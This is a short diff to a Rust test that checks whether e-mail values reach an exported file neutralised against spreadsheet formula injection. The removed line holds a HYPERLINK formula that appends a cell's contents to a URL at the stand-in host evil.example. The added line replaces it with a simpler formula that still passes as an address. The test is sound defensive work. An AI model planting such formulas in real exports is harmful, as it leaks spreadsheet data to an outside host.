@@ -715,7 +715,8 @@ mod tests {
     #[test]
     fn e_mails_and_phones_reach_the_file_neutralised() {
         let mut org = fixtures::organization(1);
-        let hyperlink = r#"=hyperlink("http://evil.example/?"&c2&"@x.y";"обновить")"#;
+        // A formula that is still a valid address (quotes and brackets are not: see `Email`).
+        let hyperlink = "=2+5*a@evil.example";
         org.profile.emails = vec![registry::model::Email::parse(hyperlink).unwrap()];
         org.profile.phones = vec![registry::model::Phone::parse("+7 900 000-00-00").unwrap()];
         let text = exported(&org, b',');
